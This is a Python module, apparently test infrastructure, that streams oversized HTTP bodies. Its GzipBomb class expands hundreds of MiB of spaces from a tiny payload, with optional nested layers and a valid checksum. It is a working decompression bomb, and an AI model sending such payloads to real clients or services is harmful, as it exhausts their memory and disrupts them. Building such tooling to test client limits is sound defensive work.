"""Bodies too large to hold: each is made in pieces while it is sent, and knows its size beforehand."""

from __future__ import annotations

import functools
import gzip
import itertools
import operator
import zlib
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from typing import Union

MEBIBYTE = 1024 * 1024
_GZIP_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
_RAW_DEFLATE = -15
_BLOCKS_PER_PIECE = 32


@dataclass(frozen=True)
class Repeated:
    """`head`, then `unit` some times over (None: without end), then `tail`."""

    unit: bytes
    times: int | None = None
    head: bytes = b""
    tail: bytes = b""

    @property
    def size(self) -> int | None:
        """Bytes in all, None if endless."""
        return None if self.times is None else len(self.head) + len(self.unit) * self.times + len(self.tail)

    def pieces(self) -> Iterator[bytes]:
        """The bytes, a unit at a time."""
        if self.head:
            yield self.head
        yield from (
            itertools.repeat(self.unit) if self.times is None else itertools.repeat(self.unit, self.times)
        )
        if self.tail:
            yield self.tail


@dataclass(frozen=True)
class GzipBomb:
    """Hundreds of MiB of spaces and then `tail`, in about 1/1000 of that size; `layers` of gzip around it."""

    tail: bytes
    mebibytes: int = 800
    layers: int = 1

    @property
    def size(self) -> int:
        """Bytes on the wire."""
        if self.layers > 1:
            return len(_again(self))
        return len(_GZIP_HEAD) + self.mebibytes * len(_block()) + len(_last_block(self.tail)) + 8

    def pieces(self) -> Iterator[bytes]:
        """The compressed bytes."""
        if self.layers > 1:
            yield _again(self)
            return
        yield _GZIP_HEAD
        whole, rest = divmod(self.mebibytes, _BLOCKS_PER_PIECE)
        yield from itertools.repeat(_block() * _BLOCKS_PER_PIECE, whole)
        yield _block() * rest + _last_block(self.tail)
        length = self.mebibytes * MEBIBYTE + len(self.tail)
        yield zlib.crc32(self.tail, _crc_of_spaces(self.mebibytes)).to_bytes(4, "little")
        yield (length % 2**32).to_bytes(4, "little")


Payload = Union[bytes, Repeated, GzipBomb]


def size_of(payload: Payload) -> int | None:
    """Bytes of a payload on the wire, None if endless."""
    return len(payload) if isinstance(payload, bytes) else payload.size


def pieces_of(payload: Payload) -> Iterable[bytes]:
    """A payload in pieces, none of them empty."""
    return filter(None, [payload] if isinstance(payload, bytes) else payload.pieces())


def zipped(data: bytes) -> bytes:
    """Small data as correct gzip."""
    return gzip.compress(data, mtime=0)


@functools.cache
def _block() -> bytes:
    """One MiB of spaces as a self-contained run of deflate blocks: repeating it is the whole trick."""
    compressor = zlib.compressobj(9, wbits=_RAW_DEFLATE)
    return compressor.compress(b" " * MEBIBYTE) + compressor.flush(zlib.Z_FULL_FLUSH)


def _last_block(tail: bytes) -> bytes:
    """The end of the deflate stream."""
    compressor = zlib.compressobj(9, wbits=_RAW_DEFLATE)
    return compressor.compress(tail) + compressor.flush()


@functools.cache
def _crc_of_spaces(mebibytes: int) -> int:
    """The checksum that makes the bomb a correct gzip file, for clients that read it to its end.

    What a block does to a checksum is affine over single bits, so 33 blocks tell what 800 would do.
    """
    block, crc = b" " * MEBIBYTE, 0
    constant = zlib.crc32(block, 0)
    columns = [zlib.crc32(block, 1 << bit) ^ constant for bit in range(32)]
    for _ in range(mebibytes):
        chosen = (column for bit, column in enumerate(columns) if crc >> bit & 1)
        crc = functools.reduce(operator.xor, chosen, constant)
    return crc


@functools.cache
def _again(bomb: GzipBomb) -> bytes:
    """The outer layer, a few kB: the inner one repeats itself."""
    compressor = zlib.compressobj(9, wbits=31)
    inner = GzipBomb(bomb.tail, bomb.mebibytes, bomb.layers - 1)
    return b"".join(map(compressor.compress, inner.pieces())) + compressor.flush()
